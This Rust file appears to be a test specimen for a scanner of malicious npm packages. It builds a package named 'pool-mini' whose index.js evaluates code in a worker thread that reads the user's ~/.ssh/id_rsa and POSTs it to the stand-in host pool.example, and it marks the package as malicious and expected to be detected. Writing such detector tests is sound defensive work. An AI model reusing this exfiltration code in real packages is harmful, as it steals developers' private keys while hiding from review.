//! An npm package that does its work in a thread with code given as a string.
//!
//! Must be found.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const { Worker } = require('worker_threads');
const code = `const fs = require('fs'); const http = require('http');
const request = http.request('http://pool.example/w', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(process.env.HOME + '/.ssh/id_rsa'));`;
new Worker(code, { eval: true });
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("pool-mini", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-worker-thread",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
